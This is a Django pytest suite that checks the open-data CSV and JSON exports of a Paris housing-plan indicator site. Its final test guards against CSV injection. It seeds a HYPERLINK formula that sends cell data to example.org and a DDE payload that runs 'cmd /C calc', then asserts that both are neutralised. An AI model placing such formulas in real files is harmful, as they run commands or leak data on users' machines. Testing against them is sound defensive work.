"""Open data files and the read-only API: published values only, documented schema."""

import csv
import io
import json
from decimal import Decimal as D

import pytest
from django.urls import reverse

from indicators.models import Indicator, YearResult
from indicators.schema import FIELDNAMES

pytestmark = pytest.mark.django_db

BOM = "\ufeff"


def add_draft_result(value=D(987654)):
    indicator = Indicator.objects.get(label="Logements Louez solidaire captés dans l'année")
    YearResult.objects.create(indicator=indicator, year=2023, value=value, status="draft")
    return indicator


def csv_rows(client, name="values_csv", delimiter=",") -> list[dict]:
    text = client.get(reverse(f"opendata:{name}")).content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=delimiter))


def row_of(rows, indicator_id, kind, year=""):
    return next(
        r
        for r in rows
        if r["indicateur_id"] == str(indicator_id)
        and r["type_valeur"] == kind
        and r["annee"] == str(year)
    )


def test_csv_has_the_documented_columns_and_the_seed_figures(client, seed_plan):
    response = client.get(reverse("opendata:values_csv"))
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('ldaplan-valeurs.csv"')
    rows = csv_rows(client)
    assert list(rows[0]) == FIELDNAMES
    louez = [r for r in rows if r["indicateur"] == "Logements Louez solidaire captés dans l'année"]
    assert [(r["annee"], r["type_valeur"], r["valeur"]) for r in louez] == [
        ("2022", "resultat", "73"),
        ("2023", "objectif", "75"),
    ]
    assert louez[0]["valeur_au"] == "2022-12-31"
    assert louez[0]["producteur"] == "Ville de Paris"
    assert louez[0]["emplacement_source"] == "Tableau des mesures, mesure 1, colonne « Bilan 2022 »"
    interviews = next(r for r in rows if r["valeur"] == "1910")
    assert (interviews["mesure"], interviews["ligne"]) == ("7", "Permanences d'accès aux droits")


def test_every_seeded_indicator_is_in_the_csv_even_without_any_figure(client, seed_plan):
    rows = csv_rows(client)
    assert {int(r["indicateur_id"]) for r in rows} == set(
        Indicator.objects.values_list("pk", flat=True)
    )
    assert Indicator.objects.count() == 36
    # Measure 5's aim: the report gives neither target nor result, so one row, no value.
    aim = [r for r in rows if r["indicateur_id"] == "36"]
    assert len(aim) == 1
    assert (aim[0]["type_valeur"], aim[0]["valeur"], aim[0]["annee"]) == ("", "", "")
    assert aim[0]["mesure"] == "5"


def held_values() -> set[tuple]:
    """Every published value the database holds, read without indicators.opendata."""
    held = set()
    for indicator in Indicator.objects.prefetch_related(
        "year_targets", "year_results", "period_targets"
    ):
        if indicator.baseline is not None:
            held.add(
                (indicator.pk, "valeur_reference", indicator.baseline_year, indicator.baseline)
            )
        if indicator.reference_change is not None:
            held.add(
                (
                    indicator.pk,
                    "evolution_depuis_reference",
                    indicator.baseline_year,
                    indicator.reference_change,
                )
            )
        if indicator.plan_target is not None:
            held.add((indicator.pk, "cible_plan", 2026, indicator.plan_target))
        for period in indicator.period_targets.all():
            held.add((indicator.pk, "objectif_periode", period.end_year, period.value))
        for target in indicator.year_targets.filter(status="published"):
            held.add((indicator.pk, "objectif", target.year, target.value))
        for result in indicator.year_results.filter(status="published"):
            held.add((indicator.pk, "resultat", result.year, result.value))
    return held


def test_every_held_value_is_in_each_open_data_file(client, seed_plan):
    expected = held_values()
    assert len(expected) == 52
    for name, delimiter in (("values_csv", ","), ("values_french_csv", ";")):
        read = {
            (
                int(r["indicateur_id"]),
                r["type_valeur"],
                int(r["annee"]) if r["annee"] else None,
                D(r["valeur"].replace(",", ".")),
            )
            for r in csv_rows(client, name, delimiter)
            if r["type_valeur"]
        }
        assert read == expected, name
    document = json.loads(client.get(reverse("opendata:values_json")).content)
    read = {
        (v["indicateur_id"], v["type_valeur"], v["annee"], D(str(v["valeur"])))
        for v in document["valeurs"]
        if v["type_valeur"]
    }
    assert read == expected


def test_figures_say_what_the_report_says(client, seed_plan):
    rows = csv_rows(client)
    # « plus de 20 professionnels »: a bound, not exactly 20.
    pilots = row_of(rows, 27, "resultat", 2022)
    assert (pilots["valeur"], pilots["comparateur"], pilots["borne"]) == (
        "20",
        "more_than",
        "more_than",
    )
    assert pilots["valeur_texte"] == "plus de 20\u00a0professionnels"
    # 11 Pensions de Famille by the end of 2023: derived from 8 + « au moins 3 ».
    pensions = row_of(rows, 8, "objectif", 2023)
    assert (pensions["valeur"], pensions["comparateur"], pensions["deduit"]) == (
        "11",
        "at_least",
        "true",
    )
    assert pensions["derivation"].startswith("8 Pensions de Famille agréées fin 2022 + ")
    assert row_of(rows, 9, "objectif", 2023)["deduit"] == "false"
    # Evictions: −30 % since 2008, in %, no year invented for the measure.
    evictions = [r for r in rows if r["indicateur_id"] == "22"]
    assert [(r["type_valeur"], r["annee"], r["valeur"], r["unite"]) for r in evictions] == [
        ("evolution_depuis_reference", "2008", "-30", "%")
    ]
    assert evictions[0]["valeur_texte"] == "\u221230\u00a0% depuis 2008"
    assert evictions[0]["sens"] == "decrease"
    # A baseline the report does not date has no year.
    homes = row_of(rows, 12, "valeur_reference")
    assert (homes["valeur"], homes["annee"]) == ("1223", "")
    assert row_of(rows, 19, "valeur_reference")["valeur"] == "1000"
    # A target over another period carries its frame and years.
    dap = row_of(rows, 15, "objectif_periode", 2028)
    assert (dap["cadre"], dap["periode_debut"], dap["periode_fin"], dap["valeur"]) == (
        "Convention DAP 2023-2028",
        "2023",
        "2028",
        "25500",
    )
    plan_target = row_of(rows, 8, "cible_plan", 2026)
    assert (plan_target["valeur"], plan_target["periode_debut"]) == ("17", "2021")


def test_units_take_the_singular_or_the_plural_their_value_needs(client, seed_plan):
    rows = csv_rows(client)
    assert row_of(rows, 29, "resultat", 2022)["valeur_texte"] == "1\u00a0séminaire"
    assert row_of(rows, 29, "objectif", 2023)["valeur_texte"] == "2\u00a0séminaires"
    seminar = row_of(rows, 29, "resultat", 2022)
    assert (seminar["unite"], seminar["unite_singulier"]) == ("séminaires", "séminaire")


def test_french_spreadsheet_csv_uses_semicolons_and_decimal_commas(client, seed_plan):
    share = Indicator.objects.get(pk=16)  # Part de PLAI: a share, decimals allowed
    YearResult.objects.create(
        indicator=share, year=2022, value=D("35.5"), status="published", is_share=True
    )
    response = client.get(reverse("opendata:values_french_csv"))
    assert response["Content-Disposition"].endswith('ldaplan-valeurs-tableur-fr.csv"')
    text = response.content.decode("utf-8")
    assert text.startswith(BOM + "plan;axe;mesure;")
    rows = csv_rows(client, "values_french_csv", ";")
    assert list(rows[0]) == FIELDNAMES
    assert row_of(rows, 16, "resultat", 2022)["valeur"] == "35,5"
    assert row_of(csv_rows(client), 16, "resultat", 2022)["valeur"] == "35.5"
    assert row_of(rows, 15, "objectif_periode", 2028)["valeur"] == "25500"


def test_open_data_page_links_both_csv_files_and_the_schema(client, seed_plan):
    html = client.get(reverse("opendata:index")).content.decode()
    for name in ("values_csv", "values_french_csv", "values_json", "schema_json"):
        assert f'href="{reverse(f"opendata:{name}")}"' in html


def test_open_data_never_contains_unpublished_values(client, seed_plan):
    add_draft_result()
    for name in ("values_csv", "values_french_csv", "values_json"):
        assert "987654" not in client.get(reverse(f"opendata:{name}")).content.decode()


def test_json_carries_its_schema_numbers_and_booleans(client, seed_plan):
    document = json.loads(client.get(reverse("opendata:values_json")).content)
    assert [c["colonne"] for c in document["schema"]] == FIELDNAMES
    assert all(list(v) == FIELDNAMES for v in document["valeurs"])
    trained = next(v for v in document["valeurs"] if v["valeur"] == 295)
    assert (trained["type_valeur"], trained["annee"], trained["deduit"]) == (
        "resultat",
        2022,
        False,
    )
    derived = [v for v in document["valeurs"] if v["deduit"]]
    assert {(v["indicateur_id"], v["annee"]) for v in derived} == {(5, 2023), (6, 2023), (8, 2023)}


def test_open_data_files_are_read_in_a_fixed_number_of_queries(
    client, seed_plan, django_assert_num_queries
):
    # The plan, the indicators with their rows, their targets, results and period targets.
    with django_assert_num_queries(5):
        client.get(reverse("opendata:values_csv"))


def test_csv_cells_a_spreadsheet_would_run_are_made_inert(client, seed_plan):
    """CSV injection: a published text that starts like a formula is never one in the file."""
    indicator = Indicator.objects.get(label="Logements Louez solidaire captés dans l'année")
    indicator.label = '=HYPERLINK("http://example.org/?"&A1;"voir")'
    indicator.save()
    YearResult.objects.filter(indicator=indicator, year=2022).update(
        source="@SUM(1+1)*cmd|' /C calc'!A0", comment="-2+3"
    )
    for name, delimiter in (("values_csv", ","), ("values_french_csv", ";")):
        row = row_of(csv_rows(client, name, delimiter), indicator.pk, "resultat", 2022)
        assert row["indicateur"] == "'" + indicator.label
        assert row["source"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["commentaire"] == "'-2+3"
        # Figures stay figures, a negative change too.
        assert row["valeur"] == "73"
        assert (
            row_of(csv_rows(client, name, delimiter), 22, "evolution_depuis_reference", 2008)[
                "valeur"
            ]
            == "-30"
        )
    values = json.loads(client.get(reverse("opendata:values_json")).text)["valeurs"]
    assert indicator.label in {value["indicateur"] for value in values}
